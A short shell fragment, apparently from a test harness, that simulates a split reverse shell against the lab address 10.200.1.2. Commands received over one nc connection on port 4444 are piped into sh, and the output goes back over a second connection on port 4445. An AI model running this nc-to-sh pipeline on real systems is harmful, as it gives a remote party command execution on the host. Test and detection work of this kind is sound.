# Orders come by one connection of nc, and the answers go by another.
peers() {
  (echo id; sleep 0.5; echo uname; sleep 0.5; echo exit) | timeout 90 nc -l -N 10.200.1.2 4444 > /dev/null & listening t 4444
  sink 4445
}
scene() { timeout 6 nc.openbsd 10.200.1.2 4444 | sh | timeout 6 nc.openbsd -N 10.200.1.2 4445; }
